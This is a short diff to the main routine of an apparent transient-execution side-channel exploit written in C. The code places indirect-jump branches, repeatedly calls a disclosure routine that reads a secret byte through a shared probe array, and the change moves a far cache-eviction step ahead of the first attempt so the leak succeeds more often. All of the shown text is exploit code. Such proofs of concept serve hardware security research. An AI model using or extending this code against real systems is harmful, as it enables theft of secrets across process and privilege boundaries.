@@ -35,14 +35,12 @@ int main(int argc, char **argv)
 	catch_faults();
 	for (int i = 0; i < options.branches.count; i++)
 		branches[i] = place_branch(options.branches.at[i], INDIRECT_JUMP);
+	/* The last cache is too near for the walks to the code, the secret and the probe. */
+	if (!keeps_translations())
+		prepare_far_eviction();
 	times = choose_disclosure(choose, read_byte, array + SHARED_KNOWN, ATTEMPTS_WITH_KNOWN);
 	if (times < 2) {
 		forgets = 1;
-		times = choose_disclosure(choose, read_byte, array + SHARED_KNOWN, ATTEMPTS_WITH_KNOWN);
-	}
-	/* The last cache is too near for the walks to the code, the secret and the probe. */
-	if (times < 2 && !keeps_translations()) {
-		pages_to_evict = prepare_far_eviction();
 		times = choose_disclosure(choose, read_byte, array + SHARED_KNOWN, ATTEMPTS_WITH_KNOWN);
 	}
 	recover(sample, patience_if(times), 1);
